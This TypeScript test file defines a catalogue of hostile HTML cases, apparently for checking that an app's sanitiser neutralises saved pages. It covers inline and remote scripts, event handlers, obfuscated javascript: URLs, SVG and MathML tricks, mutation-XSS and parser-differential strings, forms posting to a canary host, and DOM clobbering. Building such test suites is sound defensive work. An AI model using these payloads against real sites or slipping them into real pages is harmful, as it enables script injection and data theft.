/** Script and markup tricks: everything a saved page can do to run code, reach the network or rewrite the app. */
import type { HostileCase } from './case';
import { escapeHtml, payload } from './build';
import { htmlCase } from './html-case';

const F = 'markup' as const;

export const MARKUP_CASES: HostileCase[] = [
  htmlCase({
    name: 'script-inline',
    family: F,
    input: '`<script>` in head and body, upper case, `type=module`, inside a table',
    head: (c) => `<script>${payload(c, 'head-script')}</script>`,
    body: (c) =>
      [
        `<script>${payload(c, 'script')}</script>`,
        `<SCRIPT>${payload(c, 'upper-script')}</SCRIPT>`,
        `<script type="module">${payload(c, 'module')}</script>`,
        `<table><tr><td>cell</td><script>${payload(c, 'table-script')}</script></tr></table>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'script-remote',
    family: F,
    input: '`<script src>` at the canary, protocol-relative, `modulepreload` and `preload as=script` links',
    head: (c) =>
      `<link rel="modulepreload" href="${c.canary}/modulepreload.js"><link rel="preload" as="script" href="${c.canary}/preload.js">`,
    body: (c) =>
      `<script src="${c.canary}/remote.js"></script><script src="${c.canary.replace('http:', '')}/relative.js"></script>`,
  }),
  htmlCase({
    name: 'event-handlers',
    family: F,
    input:
      '`onerror`, `onload`, `ontoggle`, `onfocus autofocus`, `onmouseover`, `onclick`, `onstart` handlers',
    bodyAttributes: (c) => `onload="${payload(c, 'body-onload')}"`,
    body: (c) =>
      [
        `<p><img src="missing.png" onerror="${payload(c, 'img-onerror')}" alt="broken"></p>`,
        `<details open ontoggle="${payload(c, 'ontoggle')}"><summary>More</summary>Details text.</details>`,
        `<input autofocus onfocus="${payload(c, 'onfocus')}">`,
        `<div onmouseover="${payload(c, 'mouseover')}">Hover text.</div>`,
        `<p><a href="https://example.org/" onclick="${payload(c, 'onclick')}">a link</a></p>`,
        `<marquee onstart="${payload(c, 'marquee')}">news</marquee>`,
        `<video src="x" onerror="${payload(c, 'video-onerror')}"></video>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'javascript-url-plain',
    family: F,
    input: '`javascript:` in `a href`, `area href`, `form action`, `iframe src`, `img src`',
    body: (c) =>
      [
        `<p><a href="javascript:${payload(c, 'a-href')}">plain javascript link</a></p>`,
        `<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:${payload(c, 'area')}"></map>`,
        `<form action="javascript:${payload(c, 'form-action')}"><button>Go</button></form>`,
        `<iframe src="javascript:${payload(c, 'iframe-src')}"></iframe>`,
        `<img src="javascript:${payload(c, 'img-src')}" alt="x">`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'javascript-url-entities',
    family: F,
    input:
      '`javascript:` spelt with decimal, hex, padded and named character references (`&#106;`, `&#x6A;`, `&colon;`, `&Tab;`)',
    body: (c) =>
      [
        `<p><a href="&#106;avascript:${payload(c, 'decimal')}">decimal</a></p>`,
        `<p><a href="&#x6A;&#x61;vascript:${payload(c, 'hex')}">hex</a></p>`,
        `<p><a href="&#0000106;avascript:${payload(c, 'padded')}">padded</a></p>`,
        `<p><a href="javascript&colon;${payload(c, 'colon')}">colon</a></p>`,
        `<p><a href="java&Tab;script:${payload(c, 'tab')}">tab</a></p>`,
        `<p><a href="java&NewLine;script:${payload(c, 'newline')}">newline</a></p>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'javascript-url-whitespace-case',
    family: F,
    input: '`javascript:` in mixed case, after spaces and control characters, split by a tab or a newline',
    body: (c) =>
      [
        `<p><a href="JaVaScRiPt:${payload(c, 'mixed-case')}">case</a></p>`,
        `<p><a href="   javascript:${payload(c, 'leading-space')}">space</a></p>`,
        `<p><a href="\u0001javascript:${payload(c, 'control')}">control</a></p>`,
        `<p><a href="java\tscript:${payload(c, 'tab')}">tab</a></p>`,
        `<p><a href="java\nscript:${payload(c, 'newline')}">newline</a></p>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'other-script-schemes',
    family: F,
    input: '`vbscript:`, `livescript:`, `data:text/html` links and frames',
    body: (c) =>
      [
        `<p><a href="vbscript:msgbox(1)">vbscript</a> <a href="livescript:${payload(c, 'livescript')}">livescript</a></p>`,
        `<p><a href="data:text/html,&lt;script&gt;${escapeHtml(payload(c, 'data-link'))}&lt;/script&gt;">data link</a></p>`,
        `<iframe src="data:text/html;base64,${Buffer.from(`<script>${payload(c, 'data-frame')}</script>`).toString('base64')}"></iframe>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'svg-tricks',
    family: F,
    input:
      'inline SVG: `<script>`, `onload`, `xlink:href=javascript:`, `<animate>`/`<set>` to `javascript:`, `<foreignObject>`, `<use>`, `<image>`',
    body: (c) =>
      [
        `<svg><script>${payload(c, 'svg-script')}</script></svg>`,
        `<svg onload="${payload(c, 'svg-onload')}"><rect width="1" height="1"/></svg>`,
        `<svg><a xlink:href="javascript:${payload(c, 'svg-xlink')}"><text x="0" y="10">svg link</text></a></svg>`,
        `<svg><a><animate attributeName="href" values="javascript:${payload(c, 'svg-animate')}"/><text x="0" y="10">animated</text></a></svg>`,
        `<svg><set attributeName="onmouseover" to="${payload(c, 'svg-set')}"/></svg>`,
        `<svg><foreignObject><img src="x" onerror="${payload(c, 'svg-foreign')}"></foreignObject></svg>`,
        `<svg><use href="${c.canary}/use.svg#x"/><image href="${c.canary}/image.png"/></svg>`,
        `<svg><style>@import url(${c.canary}/svg-style.css);</style></svg>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'mathml-tricks',
    family: F,
    input:
      'MathML: `href=javascript:`, `<maction xlink:href>`, `<annotation-xml encoding=text/html><script>`, `<mglyph><style>` mutation',
    body: (c) =>
      [
        `<math href="javascript:${payload(c, 'math-href')}"><mi>x</mi></math>`,
        `<math><maction actiontype="statusline" xlink:href="javascript:${payload(c, 'maction')}"><mtext>click</mtext></maction></math>`,
        `<math><annotation-xml encoding="text/html"><script>${payload(c, 'annotation')}</script></annotation-xml></math>`,
        `<math><mtext><table><mglyph><style><img src=x onerror="${payload(c, 'mglyph')}">`,
        '</style></mglyph></table></mtext></math>',
      ].join('\n'),
  }),
  htmlCase({
    name: 'mutation-xss',
    family: F,
    input:
      'namespace confusion and re-parse tricks: `<form><math><mtext></form><form><mglyph><style>`, `<noscript><p title="</noscript>…">`, `<svg></p><style>`',
    body: (c) =>
      [
        `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${payload(c, 'form-math')}">`,
        `<noscript><p title="</noscript><img src=x onerror=&quot;${payload(c, 'noscript')}&quot;>"></p></noscript>`,
        `<svg></p><style><a id="</style><img src=1 onerror=&quot;${payload(c, 'svg-p-style')}&quot;>"></a></style></svg>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'parser-differentials',
    family: F,
    input: '`<!--><script>-->`, `<textarea>`, `<xmp>`, `<template>`, `<noembed>`, CDATA, `<title>` in body',
    body: (c) =>
      [
        `<!--><script>${payload(c, 'comment')}</script>-->`,
        `<textarea></textarea><script>${payload(c, 'after-textarea')}</script>`,
        `<xmp><script>${payload(c, 'xmp')}</script></xmp>`,
        `<template><script>${payload(c, 'template')}</script><img src=x onerror="${payload(c, 'template-img')}"></template>`,
        `<noembed><img src=x onerror="${payload(c, 'noembed')}"></noembed>`,
        `<![CDATA[><img src=x onerror="${payload(c, 'cdata')}">]]>`,
        `<title><img src=x onerror="${payload(c, 'title-in-body')}"></title>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'iframe-srcdoc',
    family: F,
    input: '`<iframe srcdoc>` holding a script and an `onerror` image',
    body: (c) =>
      [
        `<iframe srcdoc="&lt;script&gt;${escapeHtml(payload(c, 'srcdoc'))}&lt;/script&gt;"></iframe>`,
        `<iframe srcdoc="<img src=x onerror=&quot;${payload(c, 'srcdoc-img')}&quot;>"></iframe>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'frames-remote',
    family: F,
    input: '`<iframe src>`, `<frame>`, `<portal>`, `<fencedframe>` at the canary',
    body: (c) =>
      [
        `<iframe src="${c.canary}/iframe"></iframe>`,
        `<frameset><frame src="${c.canary}/frame"></frameset>`,
        `<portal src="${c.canary}/portal"></portal>`,
        `<fencedframe src="${c.canary}/fenced"></fencedframe>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'object-embed',
    family: F,
    input: '`<object data>`, `<object><param>`, `<embed src>`, `<applet>`',
    body: (c) =>
      [
        `<object data="${c.canary}/object.swf" type="application/x-shockwave-flash"></object>`,
        `<object><param name="movie" value="${c.canary}/param.swf"></object>`,
        `<object data="data:text/html,&lt;script&gt;${escapeHtml(payload(c, 'object-data'))}&lt;/script&gt;"></object>`,
        `<embed src="${c.canary}/embed.swf">`,
        `<embed src="javascript:${payload(c, 'embed-js')}">`,
        `<applet code="Evil.class" codebase="${c.canary}/applet/"></applet>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'meta-refresh',
    family: F,
    input: '`<meta http-equiv=refresh>` to the canary (head) and to `javascript:` (body), `set-cookie` meta',
    head: (c) =>
      `<meta http-equiv="refresh" content="0; url=${c.canary}/refresh"><meta http-equiv="set-cookie" content="offprint=1">`,
    body: (c) => `<meta http-equiv="refresh" content="0;url=javascript:${payload(c, 'refresh-js')}">`,
  }),
  htmlCase({
    name: 'base-href',
    family: F,
    input: '`<base href>` at the canary (and `target=_top`) with relative images and links',
    head: (c) => `<base href="${c.canary}/base/" target="_top">`,
    body: () => '<p><img src="relative.png" alt="relative"> <a href="relative-page">a relative link</a></p>',
  }),
  htmlCase({
    name: 'css-import',
    family: F,
    input: '`<style>@import`, `<link rel=stylesheet>`, `@font-face src` at the canary',
    head: (c) =>
      `<link rel="stylesheet" href="${c.canary}/link.css"><style>@import url(${c.canary}/import.css); @import '${c.canary}/import2.css';</style>`,
    body: (c) =>
      `<style>@font-face { font-family: x; src: url(${c.canary}/font.woff); } p { font-family: x; }</style>`,
  }),
  htmlCase({
    name: 'css-url',
    family: F,
    input:
      '`style` attributes with `url()`, `image-set()`, `expression()`, `behavior`, cursors, list markers',
    body: (c) =>
      [
        `<p style="background: url(${c.canary}/bg.png)">A styled paragraph.</p>`,
        `<p style="background-image: image-set('${c.canary}/set.png' 1x)">Image set.</p>`,
        `<p style="width: expression(${payload(c, 'expression')})">Expression.</p>`,
        `<p style="behavior: url(${c.canary}/x.htc); cursor: url(${c.canary}/cur.cur), auto">Behaviour.</p>`,
        `<ul style="list-style: url(${c.canary}/bullet.png)"><li>item</li></ul>`,
        `<style>article { background: url(${c.canary}/style-bg.png); }</style>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'forms',
    family: F,
    input:
      'forms posting to the canary: `action`, `formaction`, `<input type=image>`, `javascript:` formaction',
    body: (c) =>
      [
        `<form action="${c.canary}/form" method="post"><input name="q" value="secret"><button>Send</button></form>`,
        `<form><button formaction="${c.canary}/formaction">Send</button></form>`,
        `<form><input type="image" src="${c.canary}/input-image.png" alt="submit"></form>`,
        `<form><input type="submit" formaction="javascript:${payload(c, 'formaction-js')}"></form>`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'dom-clobbering',
    family: F,
    input:
      'elements named and id’d like the app’s globals and ids: `getElementById`, `root`, `article-title`, `cookie`, `body`',
    body: () =>
      [
        '<img name="getElementById" alt="x"><img name="querySelector" alt="x"><img name="cookie" alt="x">',
        '<form name="body"><input name="attributes"></form>',
        '<div id="root">clobbered root</div><h2 id="article-title">clobbered title</h2>',
        '<a id="defaultView"></a><a id="defaultView" name="location" href="https://example.org/"></a>',
      ].join('\n'),
  }),
  htmlCase({
    name: 'link-ping-prefetch',
    family: F,
    input: '`<a ping>`, `<link rel=prefetch|dns-prefetch|preconnect|icon|manifest>` at the canary',
    head: (c) =>
      ['prefetch', 'dns-prefetch', 'preconnect', 'icon', 'manifest']
        .map((rel) => `<link rel="${rel}" href="${c.canary}/${rel}">`)
        .join(''),
    body: (c) => `<p><a href="https://example.org/" ping="${c.canary}/ping">a link with a ping</a></p>`,
  }),
  htmlCase({
    name: 'media-elements',
    family: F,
    input:
      '`<video src poster>`, `<audio>`, `<source>`, `<track>`, `<bgsound>`, `<img lowsrc dynsrc>` at the canary',
    body: (c) =>
      [
        `<video src="${c.canary}/v.mp4" poster="${c.canary}/poster.png" autoplay></video>`,
        `<audio src="${c.canary}/a.mp3" autoplay></audio>`,
        `<video><source src="${c.canary}/s.mp4"><track src="${c.canary}/t.vtt"></video>`,
        `<bgsound src="${c.canary}/bg.mid"><img lowsrc="${c.canary}/low.png" dynsrc="${c.canary}/dyn.avi" alt="x">`,
      ].join('\n'),
  }),
  htmlCase({
    name: 'xhtml-page',
    family: F,
    extension: 'xhtml',
    input: 'an XHTML page with a `<script>` and an `onerror` image',
    body: (c) =>
      `<script>${payload(c, 'xhtml-script')}</script><p><img src="x" onerror="${payload(c, 'xhtml-img')}" alt="x"/></p>`,
  }),
];
